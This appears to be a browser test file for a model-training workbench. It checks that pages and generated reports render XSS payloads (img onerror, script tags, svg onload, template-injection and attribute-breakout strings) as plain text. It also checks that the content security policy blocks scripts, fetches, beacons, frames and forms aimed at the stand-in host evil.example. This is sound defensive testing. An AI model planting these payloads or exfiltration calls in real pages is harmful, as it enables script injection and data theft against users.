import { cpSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { expect, it } from 'vitest';
import { experimentRecord } from '../main/contract/experiments.ts';
import { recipeSchema } from '../main/contract/recipe.ts';
import { htmlCard } from '../main/workbench/results/model-card.ts';
import { deadline, screenshot } from './harness.ts';
import { describeInBrowser, openScene } from './scene.ts';

/** What a data file, a model card or a name may hold; each would set `pwned` if it were more than text. */
const image = '<img src=x onerror="globalThis.pwned=1">';
const script = '<script>globalThis.pwned=2</script>';
const template = "{{ constructor.constructor('globalThis.pwned=3')() }}";
const attribute = '" autofocus onfocus="globalThis.pwned=4" x="';
const drawing = '<svg onload="globalThis.pwned=5"><a href="javascript:globalThis.pwned=6">x</a></svg>';
const all = [image, script, template, attribute, drawing];

function recordOf(id: string, folder: string): unknown {
  const stage = {
    position: 0,
    kind: 'finetune',
    weight: 1,
    state: 'failed',
    done: 1,
    total: 2,
    unit: image,
    seconds: 1,
  };
  const error = { code: 'internal', message: image, cause: script, remedy: drawing, details: all.join('\n') };
  return experimentRecord.parse({
    id,
    name: `${image}${script}`,
    state: 'failed',
    seed: 1,
    created: 1,
    started: 1,
    ended: 2,
    machine: { platform: image, architecture: script, processor: drawing, cores: 1, memoryBytes: 1 },
    versions: { tritsmith: image, [script]: drawing },
    error,
    stages: [{ ...stage, started: 1, ended: 2, error, result: null }],
    artifacts: [{ name: image, path: `exports/${image}.gguf`, bytes: 1, sha256: script, stage: 'export' }],
    recipe: recipeSchema.parse({
      name: `${image}${script}`,
      teacher: join(folder, image),
      finetune: null,
      refine: {},
      pretrain: null,
      distil: { steps: 2, optimiser: { learningRate: 1e-3, batchSize: 8 } },
      task: {
        name: drawing,
        kind: 'classification',
        train: join(folder, script),
        textColumns: [image],
        labelColumn: script,
      },
    }),
  });
}

const scene = openScene({
  network: 'none',
  prepare: (folder) => {
    for (const id of ['hostile-1', 'hostile-2']) {
      const place = join(folder, 'workspace', 'experiments', id);
      mkdirSync(place, { recursive: true });
      writeFileSync(join(place, 'experiment.json'), JSON.stringify(recordOf(id, folder)));
      writeFileSync(
        join(place, 'annotations.json'),
        JSON.stringify({ tags: ['<b>tag</b>', '<img src=x onerror=pwned=7>'], notes: all.join('\n') }),
      );
    }
    const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
    const rows = Array.from({ length: 40 }, (_, row) =>
      [`${all[row % all.length]!} row ${String(row)}`, row % 2 === 0 ? drawing : script].map(quoted).join(','),
    );
    writeFileSync(
      join(folder, 'hostile.csv'),
      [[`${image} text`, `${script} label`].map(quoted).join(','), ...rows].join('\n'),
    );
  },
});

/** Whether anything of the hostile texts has become more than text. */
async function expectOnlyText(): Promise<void> {
  await scene.page.waitForTimeout(300);
  const found = await scene.page.evaluate(`({
    pwned: globalThis.pwned ?? null,
    elements: [...document.querySelectorAll('img[src="x"], svg[onload], [onerror], [onfocus], [autofocus], a[href^="javascript:"], b, script:not([src])')].map((each) => each.outerHTML),
  })`);
  expect(found).toEqual({ pwned: null, elements: [] });
}

describeInBrowser('hostile texts', () => {
  for (const [name, path] of [
    ['home', '/'],
    ['experiments', '/experiments'],
    ['run', '/experiments/hostile-1'],
    ['results', '/experiments/hostile-1/results'],
    ['exports', '/experiments/hostile-1/exports'],
    ['recipe', '/experiments/hostile-1/recipe'],
    ['compare', '/compare?ids=hostile-1,hostile-2'],
    ['playground', '/playground'],
    ['benchmarks', '/benchmarks'],
  ] as const)
    it(`of an experiment are shown as text: ${name}`, async () => {
      await scene.page.goto(scene.origin + path);
      await scene.page.locator('main h1').waitFor();
      await scene.page.waitForLoadState('networkidle');
      if (!['playground', 'benchmarks', 'home'].includes(name))
        expect(await scene.page.locator('main').innerText()).toContain('<img src=x');
      await expectOnlyText();
    });

  it('of a model folder, its name, its model card and its configuration, are shown as text', async () => {
    const { page } = scene;
    const usable = join(scene.folder, image);
    cpSync(fileURLToPath(new URL('../resources/demo/teacher', import.meta.url)), usable, { recursive: true });
    const card = `---\nlicense: ${drawing.replaceAll('"', '')}\n---\n${all.join('\n\n')}\n`;
    writeFileSync(join(usable, 'README.md'), card);
    const strange = join(scene.folder, 'strange');
    cpSync(usable, strange, { recursive: true });
    writeFileSync(join(strange, 'config.json'), JSON.stringify({ model_type: image, architectures: [template] }));
    await page.goto(`${scene.origin}/new`);
    const folder = page.getByRole('textbox', { name: 'Model folder or GGUF file', exact: true });
    await folder.fill(usable);
    await folder.blur();
    await page.getByText('What the student will weigh').waitFor();
    expect(await page.locator('main').innerText()).toContain('<svg onload=globalThis.pwned=5>');
    await expectOnlyText();
    await folder.fill(strange);
    await folder.blur();
    await page.getByRole('heading', { name: 'This model cannot be used' }).waitFor();
    expect(await page.locator('main').innerText()).toContain(image);
    await screenshot(page, 'hostile-model');
    await expectOnlyText();
  });

  it('of rows, labels and column names are shown as text', async () => {
    const { page } = scene;
    await page.goto(`${scene.origin}/new`);
    await page.getByRole('button', { name: 'Demo teacher' }).click();
    await page.getByText('What the student will weigh').waitFor();
    await page.getByRole('button', { name: 'Next' }).click();
    const field = page.getByRole('textbox', { name: 'Training rows', exact: true });
    await field.fill(join(scene.folder, 'hostile.csv'));
    await field.blur();
    await page.getByText('40 of 40 rows can be used.').waitFor();
    await page.getByTestId('preview').waitFor();
    expect(await page.getByTestId('preview').innerText()).toContain(image);
    expect(await page.locator('main').innerText()).toContain(drawing);
    await screenshot(page, 'hostile-data');
    await expectOnlyText();
  });

  it('are text in the report, which runs no script and loads nothing', async () => {
    const record = experimentRecord.parse(recordOf('hostile-1', scene.folder));
    const path = join(scene.folder, 'report.html');
    const example = { row: 1, prompt: image, gold: drawing, first: '`<script>1</script>`', second: '', firstScore: 1 };
    const differences = {
      ...{ labels: [drawing, image], rows: 9, differing: 1, firstBetter: 1, secondBetter: 0 },
      confusion: [
        {
          model: 'bitdistill' as const,
          counts: [
            [4, 1],
            [0, 4],
          ],
          macroF1: 0.9,
        },
      ],
      examples: [{ ...example, secondScore: 0 }],
    };
    writeFileSync(path, htmlCard(record, { comparison: null, evaluations: [], exports: [], differences }));
    const report = readFileSync(path, 'utf8');
    expect(report).toContain('&lt;img src=x onerror=');
    expect(report).not.toMatch(/<(img|script|svg|iframe|object|link)\b/);
    const opened = await scene.page.context().newPage();
    await opened.goto(`file://${path}`);
    expect(await opened.evaluate('globalThis.pwned ?? null')).toBeNull();
    await opened.close();
  });
});

describeInBrowser('the content security policy', () => {
  /** Runs `code` in the page, outside of the debugger's own evaluation, until it has violated `directive`. */
  const violate = (directive: string, code: string): Promise<unknown> =>
    scene.page.evaluate(`new Promise((resolve, reject) => {
      const found = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        found.push(effectiveDirective);
        // What the policy let through would show by then.
        if (effectiveDirective === '${directive}') requestAnimationFrame(() => setTimeout(resolve, 50));
      });
      setTimeout(() => { try { ${code} } catch (error) { found.push(error.name) } }, 0);
      setTimeout(() => reject(new Error('It violated only: ' + found.join(', '))), ${String(deadline / 2)});
    })`);

  it.each([
    [
      'an inline script',
      'script-src-elem',
      `const s = document.createElement('script'); s.textContent = 'pwned=1'; document.body.append(s)`,
    ],
    [
      'an inline handler',
      'script-src-attr',
      `document.body.insertAdjacentHTML('beforeend', '<a onclick="pwned=1" id="h">h</a>'); document.getElementById('h').click()`,
    ],
    [
      'a remote script',
      'script-src-elem',
      `const s = document.createElement('script'); s.src = 'http://evil.example/x.js'; document.body.append(s)`,
    ],
    ['eval', 'script-src', `eval('pwned=1')`],
    ['a new Function', 'script-src', `new Function('pwned=1')()`],
    ['a remote image', 'img-src', `new Image().src = 'http://evil.example/x.png'`],
    [
      'a remote stylesheet',
      'style-src-elem',
      `document.head.insertAdjacentHTML('beforeend', '<link rel="stylesheet" href="http://evil.example/x.css">')`,
    ],
    ['a request elsewhere', 'connect-src', `fetch('http://evil.example/').catch(() => 0)`],
    ['a request to another port', 'connect-src', `fetch('http://127.0.0.1:1/').catch(() => 0)`],
    ['a WebSocket elsewhere', 'connect-src', `new WebSocket('ws://evil.example/')`],
    ['a beacon', 'connect-src', `navigator.sendBeacon('http://evil.example/', 'x')`],
    [
      'a frame',
      'frame-src',
      `const f = document.createElement('iframe'); f.src = 'http://evil.example/'; document.body.append(f)`,
    ],
    ['a worker from text', 'worker-src', `new Worker(URL.createObjectURL(new Blob(['1'])))`],
    [
      'a plug-in',
      'object-src',
      `const o = document.createElement('object'); o.data = 'http://evil.example/'; document.body.append(o)`,
    ],
    [
      'a form',
      'form-action',
      `const f = document.createElement('form'); f.action = 'http://evil.example/'; document.body.append(f); f.submit()`,
    ],
    [
      'another base',
      'base-uri',
      `const b = document.createElement('base'); b.href = 'http://evil.example/'; document.head.prepend(b)`,
    ],
  ])('blocks %s', async (_what, directive, code) => {
    const place = `${scene.origin}/machine`;
    // A blocked form leaves a navigation pending: every case starts on a page of its own.
    await scene.page.goto(place);
    await scene.page.locator('main h1').waitFor();
    await violate(directive, code);
    expect(await scene.page.evaluate('globalThis.pwned ?? null')).toBeNull();
    expect(scene.page.url()).toBe(`${scene.origin}/machine`);
  });
});

describeInBrowser('the link', () => {
  it('leaves no token in the address, and a page without it is told so', async () => {
    expect(scene.page.url()).not.toContain('token');
    const stranger = await scene.page.context().browser()!.newPage();
    await stranger.goto(`${scene.origin}/#token=wrong`);
    await stranger.getByText('This link is no longer valid.').waitFor();
    await screenshot(stranger, 'refused');
    expect(stranger.url()).toBe(`${scene.origin}/`);
    await stranger.close();
  });
});
